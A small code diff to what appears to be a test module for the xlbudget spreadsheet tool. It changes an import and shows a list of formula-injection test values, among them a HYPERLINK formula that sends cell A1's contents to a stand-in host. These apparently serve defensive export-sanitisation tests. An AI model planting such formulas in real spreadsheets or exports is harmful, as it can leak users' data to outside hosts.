@@ -22,7 +22,8 @@ from xlbudget import addin
 from xlbudget.cli import main
 from xlbudget.app.example import example_workbook
 from xlbudget.app.export import export_records, records_to_csv
-from xlbudget.adapters.xlsxfile import load_book, save_atomic
+from xlbudget.adapters.xlsxfile import save_atomic
+from xlbudget.adapters.books import load_book
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"按此")'
 HOSTILE = (HYPERLINK, "+1", "-x", "@SUM(A1:A2)", "\t=1+1", "  =2*3", "\r=3", "-", "'=4")
